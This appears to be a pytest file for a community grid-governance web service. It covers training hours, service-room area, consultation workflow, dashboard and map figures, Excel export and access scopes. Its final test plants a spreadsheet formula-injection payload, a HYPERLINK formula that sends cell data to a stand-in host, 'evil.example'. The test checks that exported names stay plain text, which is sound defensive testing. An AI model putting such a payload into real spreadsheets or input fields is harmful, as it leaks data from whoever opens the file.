"""Governance items 5-7 (issue 12) on the demo city, through HTTP: training hours per staff
member at their edge values (39/40 for a committee member, 19/20 for other staff), service rooms
at exactly 30 m² per 100 households and one tenth below, outdoor space at 1,000 m², the
consultation's five steps with its bad transitions, and the count of concluded consultations
(1 and 2) against 2-3; each is a figure of the dashboard and a colour of the map; the scope (a
community head records only for their community, a street official reads only their street)."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from gridsvc.domain import clock

DEMO_PASSWORD = "gridsvc-demo"
STREET = "610202004000"
CHUANKOU = "610202004002"  # 1,653 households; its head "head", its workers "worker", w610202004002002…
YOUTH = "610202004001"
YEAR = 2025  # the demo's own records are dated this year (2026): last year starts empty
WORKERS = ["worker", *[f"w{CHUANKOU}{i:03d}" for i in range(2, 9)]]


async def figure(demo, h, key: str, code: str = CHUANKOU, year: int = YEAR) -> dict:
    board = (await demo.get(f"/api/v1/indicators?under={STREET}&year={year}", headers=h)).json()
    area = next(a for a in board["areas"] if a["code"] == code)
    return next(f for f in area["figures"] if f["key"] == key) | {"community": next(
        c for c in board["communities"] if c["code"] == code)}


async def session(demo, h, hours: int, attendees: list[str], *, area: str = CHUANKOU, day: str = f"{YEAR}-03-01"):
    return await demo.post("/api/v1/training", headers=h, json={
        "area": area, "title": f"培训 {hours} 学时", "organiser": "王益区民政局", "held_on": day,
        "class_hours": hours, "attendees": attendees})


async def test_training_hours_against_40_and_20(demo):
    head = await demo.token_for("head", DEMO_PASSWORD)
    street = await demo.token_for("street", DEMO_PASSWORD)
    f = await figure(demo, street, "training")
    assert (f["value"], f["target"], f["met"]) == (0, 9, False)  # the head and eight grid workers, none trained
    # the head (committee member) at 39, the workers (other staff) at 19: everyone one hour short
    assert (await session(demo, head, 19, ["head", *WORKERS])).status_code == 201
    assert (await session(demo, head, 20, ["head"])).status_code == 201
    c = (await figure(demo, street, "training"))["community"]["training"]
    assert (c["staff"], c["short"]) == (9, 9)
    people = {p["name"]: p for p in c["people"]}
    assert (people["屈华毅"]["hours"], people["屈华毅"]["required"]) == (39, 40)
    assert (people["文斌丽"]["hours"], people["文斌丽"]["required"]) == (19, 20)
    # one more hour each: exactly at the target meets it
    assert (await session(demo, head, 1, ["head", *WORKERS], day=f"{YEAR}-12-31")).status_code == 201
    f = await figure(demo, street, "training")
    assert (f["value"], f["target"], f["met"]) == (9, 9, True)
    # a session of another year does not count towards this one
    f = await figure(demo, street, "training", year=YEAR - 1)
    assert f["value"] == 0
    # the list of the year: sessions with attendees by name, and the hours per person
    r = await demo.get(f"/api/v1/training?under={CHUANKOU}&year={YEAR}", headers=head)
    assert r.status_code == 200 and len(r.json()["sessions"]) == 3
    assert {p["hours"] for p in r.json()["staff"]} == {20, 40}


async def test_training_refuses_bad_sessions_and_other_areas(demo):
    head = await demo.token_for("head", DEMO_PASSWORD)
    street = await demo.token_for("street", DEMO_PASSWORD)
    r = await session(demo, head, 4, ["head", f"h{YOUTH}", "resident", "nobody"])
    assert r.status_code == 422 and r.json()["error"]["code"] == "bad_attendee"
    named = {p["attendee"] for p in r.json()["error"]["details"]["problems"]}
    assert named == {f"h{YOUTH}", "resident", "nobody"}  # another community's head, a resident, no account
    for hours, day, code in [(0, f"{YEAR}-03-01", "bad_class_hours"), (201, f"{YEAR}-03-01", "bad_class_hours"),
                             (4, "2099-01-01", "bad_date")]:
        r = await session(demo, head, hours, ["head"], day=day)
        assert (r.status_code, r.json()["error"]["code"]) == (422, code)
    assert (await demo.get(f"/api/v1/training?under={CHUANKOU}&year={YEAR}", headers=head)).json()["sessions"] == []
    # the head records for their community only; the street official for the street's staff
    assert (await session(demo, head, 4, [f"h{YOUTH}"], area=YOUTH)).status_code == 403
    r = await session(demo, street, 4, [f"h{YOUTH}", "head"], area=STREET)
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    assert (await demo.delete(f"/api/v1/training/{sid}", headers=head)).status_code == 403
    assert (await demo.delete(f"/api/v1/training/{sid}", headers=street)).status_code == 204
    assert (await demo.delete(f"/api/v1/training/{sid}", headers=street)).status_code == 404
    assert (await demo.get("/api/v1/training?under=610204", headers=street)).status_code == 403
    resident = await demo.token_for("resident", DEMO_PASSWORD)
    assert (await demo.get(f"/api/v1/training?under={CHUANKOU}", headers=resident)).status_code == 403
    staff = (await demo.get("/api/v1/training", headers=street)).json()["staff"]
    assert staff and all(p["community"].startswith(STREET[:9]) for p in staff)


async def test_service_rooms_per_100_households_and_outdoor_space(demo):
    head = await demo.token_for("head", DEMO_PASSWORD)
    street = await demo.token_for("street", DEMO_PASSWORD)
    spaces = (await demo.get(f"/api/v1/spaces?community={CHUANKOU}", headers=head)).json()
    for s in spaces["spaces"]:  # start from the demo's rooms removed
        assert (await demo.delete(f"/api/v1/spaces/{s['id']}", headers=head)).status_code == 204
    # 1,653 households × 30 m² / 100 = 495.9 m²: one tenth below, then exactly at the target
    r = await demo.post("/api/v1/spaces", headers=head, json={"community": CHUANKOU, "name": "党群服务中心",
                                                               "kind": "room", "m2": 495.8})
    assert r.status_code == 201, r.text
    room = r.json()["id"]
    await demo.post("/api/v1/spaces", headers=head, json={"community": CHUANKOU, "name": "文化广场",
                                                          "kind": "outdoor", "m2": 999.9})
    f = await figure(demo, street, "space")
    assert f["community"]["space"]["rooms_met"] is False and f["community"]["space"]["room_m2_per_100"] == 30.0
    assert (await figure(demo, street, "outdoor"))["community"]["space"]["outdoor_met"] is False
    r = await demo.patch(f"/api/v1/spaces/{room}", headers=head,
                         json={"name": "党群服务中心", "kind": "room", "m2": 495.9})
    assert r.status_code == 200
    await demo.post("/api/v1/spaces", headers=head, json={"community": CHUANKOU, "name": "健身角",
                                                          "kind": "outdoor", "m2": 0.1})
    assert (await figure(demo, street, "space"))["community"]["space"]["rooms_met"] is True
    f = await figure(demo, street, "outdoor")
    assert f["community"]["space"]["outdoor_m2"] == 1000.0 and f["community"]["space"]["outdoor_met"] is True
    # bad input names the field; nothing stored
    for body, code in [({"m2": 0}, "bad_space"), ({"m2": -5}, "bad_space"), ({"kind": "roof"}, "bad_field")]:
        r = await demo.post("/api/v1/spaces", headers=head,
                            json={"community": CHUANKOU, "name": "x", "kind": "room", "m2": 10} | body)
        assert (r.status_code, r.json()["error"]["code"]) == (422, code), r.text
    r = await demo.post("/api/v1/spaces", headers=street, json={"community": STREET, "name": "x", "kind": "room",
                                                                "m2": 10})
    assert (r.status_code, r.json()["error"]["code"]) == (422, "not_a_community")
    assert len((await demo.get(f"/api/v1/spaces?community={CHUANKOU}", headers=head)).json()["spaces"]) == 3
    # a head records only their community's rooms
    r = await demo.post("/api/v1/spaces", headers=head, json={"community": YOUTH, "name": "x", "kind": "room", "m2": 9})
    assert r.status_code == 403


async def test_consultation_steps_and_bad_transitions(demo):
    head = await demo.token_for("head", DEMO_PASSWORD)
    r = await demo.post("/api/v1/consultations", headers=head, json={
        "community": CHUANKOU, "title": "楼顶防水", "matter": "5号楼顶层漏水", "raised_by": "resident",
        "raised_on": f"{YEAR}-04-01"})
    assert r.status_code == 201, r.text
    cid = r.json()["id"]
    assert r.json()["status"] == "raised" and r.json()["allowed"] == ["meet", "drop"]

    async def step(action: str, **data):
        return await demo.post(f"/api/v1/consultations/{cid}/steps", headers=head, json={"action": action, **data})

    # out of order: no decision before a meeting, no evaluation before it is carried out
    for action in ("decide", "carry_out", "evaluate"):
        r = await step(action)
        assert (r.status_code, r.json()["error"]["code"]) == (409, "bad_transition"), action
        assert r.json()["error"]["details"]["allowed"] == ["meet", "drop"]
    assert (await step("adjourn")).json()["error"]["code"] == "unknown_action"
    # a meeting before the matter was raised, one without participant kinds, one of one person
    meeting = {"held_on": f"{YEAR}-04-05", "participants": 12, "participant_kinds": ["residents", "property"],
               "minutes": "议定由物业维修"}
    for bad, code in [({"held_on": f"{YEAR}-03-01"}, "bad_date"), ({"participant_kinds": []}, "bad_field"),
                      ({"participant_kinds": ["张三"]}, "bad_field"), ({"participants": 1}, "bad_count")]:
        r = await step("meet", **(meeting | bad))
        assert (r.status_code, r.json()["error"]["code"]) == (422, code), bad
    assert (await step("meet", **meeting)).json()["status"] == "discussed"
    r = await step("decide", decided_on=f"{YEAR}-04-04", decision="维修", carried_by="物业")
    assert r.json()["error"]["code"] == "bad_date"  # before the meeting
    assert (await step("decide", decided_on=f"{YEAR}-04-06", decision="物业维修楼顶",
                       carried_by="物业服务企业")).json()["status"] == "decided"
    r = await step("drop", reason="不再需要")
    assert r.status_code == 409  # a decided matter is carried out, not dropped
    assert (await step("carry_out", carried_out_on=f"{YEAR}-05-01", result="已完成防水")).status_code == 200
    r = await step("evaluate", concluded_on=f"{YEAR}-05-10", satisfied=0, fair=0, dissatisfied=0)
    assert r.json()["error"]["code"] == "bad_evaluation"
    r = await step("evaluate", concluded_on=f"{YEAR}-05-10", satisfied=30, fair=2, dissatisfied=1)
    assert r.json()["status"] == "concluded" and r.json()["allowed"] == []
    assert round(r.json()["evaluation"]["satisfaction"], 3) == round(32 / 33, 3)
    assert (await step("evaluate", satisfied=1)).status_code == 409
    # the district official sees it in full (minutes too); the head of 川口 may not touch another
    # community's matter, a resident none
    official = await demo.token_for("official", DEMO_PASSWORD)
    full = (await demo.get(f"/api/v1/consultations/{cid}", headers=official)).json()
    assert full["meetings"][0]["minutes"] == "议定由物业维修"
    r = await demo.post("/api/v1/consultations", headers=official, json={
        "community": YOUTH, "title": "停车", "matter": "停车难", "raised_on": f"{YEAR}-04-01"})
    theirs = r.json()["id"]
    r = await demo.post(f"/api/v1/consultations/{theirs}/steps", headers=head, json={"action": "drop", "reason": "x"})
    assert r.status_code == 403
    r = await demo.post("/api/v1/consultations", headers=head, json={
        "community": YOUTH, "title": "停车", "matter": "停车难"})
    assert r.status_code == 403
    resident = await demo.token_for("resident", DEMO_PASSWORD)
    r = await demo.post(f"/api/v1/consultations/{cid}/steps", headers=resident, json={"action": "drop"})
    assert r.status_code == 403


async def _concluded(demo, h, day: str) -> None:
    r = await demo.post("/api/v1/consultations", headers=h, json={
        "community": CHUANKOU, "title": "议事", "matter": "事项", "raised_on": day})
    cid = r.json()["id"]
    for action, data in [("meet", {"held_on": day, "participants": 5, "participant_kinds": ["residents"],
                                   "minutes": "议"}),
                         ("decide", {"decided_on": day, "decision": "办", "carried_by": "居委会"}),
                         ("carry_out", {"carried_out_on": day, "result": "办了"}),
                         ("evaluate", {"concluded_on": day, "satisfied": 3})]:
        r = await demo.post(f"/api/v1/consultations/{cid}/steps", headers=h, json={"action": action, **data})
        assert r.status_code == 200, r.text


async def test_concluded_consultations_per_year_against_2(demo):
    head = await demo.token_for("head", DEMO_PASSWORD)
    street = await demo.token_for("street", DEMO_PASSWORD)
    await _concluded(demo, head, f"{YEAR}-06-01")
    await _concluded(demo, head, f"{YEAR - 1}-12-31")  # last year's: not this year's
    f = await figure(demo, street, "consultations")
    assert (f["community"]["consultations"]["concluded"], f["community"]["consultations"]["met"]) == (1, False)
    assert f["value"] == 0
    await _concluded(demo, head, f"{YEAR}-01-01")
    f = await figure(demo, street, "consultations")
    assert (f["community"]["consultations"]["concluded"], f["community"]["consultations"]["met"]) == (2, True)
    assert f["value"] == 1 and f["target"] == 1


async def test_published_consultations_carry_no_personal_data(demo):
    """Anonymous readers see the decided and concluded matters of the demo's 川口社区: the
    meetings by date, head count and kinds of participant; not the minutes, not the raised one."""
    r = await demo.get(f"/api/v1/consultations?community={CHUANKOU}")
    assert r.status_code == 200
    rows = r.json()
    assert {c["status"] for c in rows} == {"concluded", "decided"}
    assert all("minutes" not in m for c in rows for m in c["meetings"]) and all("dropped_reason" not in c for c in rows)
    head = await demo.token_for("head", DEMO_PASSWORD)
    full = (await demo.get(f"/api/v1/consultations?community={CHUANKOU}", headers=head)).json()
    raised = next(c for c in full if c["status"] == "raised")
    assert (await demo.get(f"/api/v1/consultations/{raised['id']}")).status_code == 404
    assert (await demo.get(f"/api/v1/consultations/{raised['id']}", headers=head)).status_code == 200
    assert any("minutes" in m for c in full for m in c["meetings"])
    # the community's public page: the matters, no minutes, no staff login or phone
    html = (await demo.get(f"/areas/{CHUANKOU}")).text
    assert "3号楼楼道照明维修" in html and "小区非机动车充电棚建设" in html and "广场舞音量扰民" not in html
    assert "公共维修资金列支" not in html  # the minutes
    page = (await demo.get(f"/consultations/{rows[0]['id']}")).text
    assert rows[0]["title"] in page and "公共维修资金列支" not in page
    assert (await demo.get(f"/consultations/{raised['id']}")).status_code == 404


async def test_the_assessment_sheet_holds_every_indicator(demo):
    """The community's yearly sheet read back with openpyxl: one sheet, a row per indicator with
    the same values as the dashboard; a street official gets their street's communities only."""
    head = await demo.token_for("head", DEMO_PASSWORD)
    await session(demo, head, 40, ["head"])
    await _concluded(demo, head, f"{YEAR}-06-01")
    await _concluded(demo, head, f"{YEAR}-07-01")
    street = await demo.token_for("street", DEMO_PASSWORD)
    r = await demo.get(f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}", headers=street)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(r.content))
    assert len(wb.worksheets) == 1
    cells = [list(row) for row in wb.active.iter_rows(values_only=True)]
    assert cells[0][0] == f"川口社区 {YEAR}年社区建设考核表"
    assert cells[1][:4] == ["区县", "王益区", "街道", "青年路街道"]
    rows = {r[0]: tuple(r[1:]) for r in cells if r and r[0]}
    assert rows["指标"] == ("本年数值", "目标", "结论", "说明")
    assert rows["社区户数(户)"][:3] == (1653, "1,000–3,000 户", "适当")
    assert rows["信息报送(篇)"][0] == 0 and rows["信息报送(篇)"][2] == "差"
    assert rows["学时达标的工作人员(人)"][:3] == (1, 9, "未达标")
    assert rows["办结协商议事(件)"][:3] == (2, "2–3 件", "达标")
    assert rows["户外活动场地(m²)"][0] == 800 and rows["户外活动场地(m²)"][2] == "未达标"  # the rooms as they stand
    for name in ("网格岗位已配备(个)", "社区社会组织(个)", "服务用房(m²/百户)", "网格数(个)"):
        assert name in rows
    assert rows["屈华毅"][:4] == ("网格长", 40, 40, "达标")  # the staff behind the training figure
    # the dashboard links to it; scope and bad parameters
    await demo.login("street", DEMO_PASSWORD)
    html = (await demo.get(f"/governance?under={STREET}&year={YEAR}")).text
    assert f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}" in html
    r = await demo.get(f"/api/v1/indicators/sheet.xlsx?community=610204001001&year={YEAR}", headers=street)
    assert r.status_code in (403, 404)
    r = await demo.get(f"/api/v1/indicators/sheet.xlsx?community={STREET}&year={YEAR}", headers=street)
    assert (r.status_code, r.json()["error"]["code"]) == (422, "not_a_community")
    r = await demo.get(f"/api/v1/indicators/sheet.xlsx?year={YEAR}", headers=street)
    assert r.status_code == 400
    demo.cookies.clear()
    resident = await demo.token_for("resident", DEMO_PASSWORD)
    r = await demo.get(f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}", headers=resident)
    assert r.status_code == 403


async def test_the_new_indicators_colour_the_map_and_link_to_their_rows(demo):
    street = await demo.token_for("street", DEMO_PASSWORD)
    names = {i["name"] for i in (await demo.get("/api/v1/maps/indicators", headers=street)).json()["indicators"]}
    assert {"gov_training", "gov_rooms", "gov_consultations"} <= names

    async def values(by: str) -> dict:
        r = await demo.get("/api/v1/maps/choropleth", headers=street,
                           params={"by": by, "level": "community", "under": STREET})
        assert r.status_code == 200, r.text
        return {f["properties"]["code"]: f["properties"].get("value") for f in r.json()["features"]}

    # the demo's records of this year: 川口 500 m² of rooms for 1,653 households, one concluded matter,
    # the head and one worker at 24 hours (of 40 and 20)
    assert (await values("gov_rooms"))[CHUANKOU] == round(500 * 100 / 1653, 1)
    assert (await values("gov_consultations"))[CHUANKOU] == 1.0
    assert (await values("gov_training"))[CHUANKOU] == 1 / 9
    r = await demo.get("/api/v1/maps/choropleth", headers=await demo.token_for("resident", DEMO_PASSWORD),
                       params={"by": "gov_rooms", "level": "community", "under": STREET})
    assert r.status_code == 403
    await demo.login("street", DEMO_PASSWORD)
    html = (await demo.get(f"/governance?under={STREET}")).text
    for key in ("training", "space", "outdoor", "consultations"):
        link = f"/governance/rows?year={clock.today().year}&under={CHUANKOU}&figure={key}"
        assert link in html, key
        page = await demo.get(link)
        assert page.status_code == 200 and "川口社区" in page.text
    page = (await demo.get(f"/governance/rows?under={STREET}&figure=training")).text
    assert "屈华毅" in page and "24 / 40" in page
    page = (await demo.get(f"/governance/rows?under={STREET}&figure=space")).text
    assert f"/governance/spaces/{CHUANKOU}" in page and "30.2" in page


async def test_staff_enter_records_through_the_pages(demo):
    csrf = await demo.login("head", DEMO_PASSWORD)
    # a course with two attendees; a bad one rendered again with the reason, nothing stored
    r = await demo.post("/governance/training", data={
        "csrf_token": csrf, "area": CHUANKOU, "title": "消防安全培训", "organiser": "街道", "held_on": f"{YEAR}-05-01",
        "class_hours": "6", "attendees": ["head", "worker"]})
    assert r.status_code == 303, r.text
    r = await demo.post("/governance/training", data={
        "csrf_token": csrf, "area": CHUANKOU, "title": "x", "held_on": f"{YEAR}-05-01", "class_hours": "6",
        "attendees": [f"h{YOUTH}"]})
    assert r.status_code == 422 and "侯福佳" in r.text
    html = (await demo.get(f"/governance/training?year={YEAR}")).text
    assert "消防安全培训" in html and html.count("消防安全培训") == 1
    # a room, then its removal
    r = await demo.post(f"/governance/spaces/{CHUANKOU}", data={"csrf_token": csrf, "action": "add",
                                                               "name": "老年活动室", "kind": "room", "m2": "60"})
    assert r.status_code == 303
    html = (await demo.get(f"/governance/spaces/{CHUANKOU}")).text
    assert "老年活动室" in html
    r = await demo.post(f"/governance/spaces/{CHUANKOU}", data={"csrf_token": csrf, "action": "add",
                                                               "name": "x", "kind": "room", "m2": "lots"})
    assert r.status_code == 422
    # a matter raised, discussed, decided from the pages; a bad step shows the reason
    r = await demo.post("/governance/consultations", data={
        "csrf_token": csrf, "community": CHUANKOU, "title": "垃圾分类", "matter": "垃圾桶点位不足",
        "raised_by": "resident", "raised_on": f"{YEAR}-05-01"})
    assert r.status_code == 303
    url = r.headers["location"]
    r = await demo.post(url, data={"csrf_token": csrf, "action": "decide", "decision": "x", "carried_by": "y"})
    assert r.status_code == 409 and "不能作出决定" in r.text
    r = await demo.post(url, data={"csrf_token": csrf, "action": "meet", "held_on": f"{YEAR}-05-02",
                                   "participants": "9", "participant_kinds": ["residents", "committee"],
                                   "minutes": "增设两处点位"})
    assert r.status_code == 303
    html = (await demo.get(url)).text
    assert "增设两处点位" in html and "民决" in html
    # the form without the CSRF token is refused
    r = await demo.post(url, data={"action": "drop", "reason": "x"})
    assert r.status_code == 403
    # a resident has no such pages
    demo.cookies.clear()
    await demo.login("resident", DEMO_PASSWORD)
    assert (await demo.get("/governance/consultations")).status_code == 403
    assert (await demo.get(f"/governance/spaces/{CHUANKOU}")).status_code == 403


async def test_names_in_the_sheets_stay_text_never_formulas(demo):
    """openpyxl makes a formula of any text that starts with "=": a community or a staff member
    named ``=HYPERLINK(…)`` (names refuse control characters, not "=") ran as a formula in the
    assessment sheet and the reports table of whoever opened them. Every such cell is text."""
    from gridsvc.store.accounts.models import User
    from gridsvc.store.areas.models import Area

    trap = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
    await Area.filter(code=CHUANKOU).update(name=trap)
    await User.filter(username="head").update(display_name="=1+2")
    head = await demo.token_for("head", DEMO_PASSWORD)
    assert (await session(demo, head, 40, ["head"])).status_code == 201
    street = await demo.token_for("street", DEMO_PASSWORD)
    for url in (f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}",
                f"/api/v1/reports/table.xlsx?year={YEAR}"):
        r = await demo.get(url, headers=street)
        assert r.status_code == 200, r.text
        ws = load_workbook(io.BytesIO(r.content)).active
        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
        assert any(c.value.startswith(trap) for c in cells), url
    ws = load_workbook(io.BytesIO((await demo.get(f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}",
                                                  headers=street)).content)).active
    assert "=1+2" in [c.value for row in ws.iter_rows() for c in row]
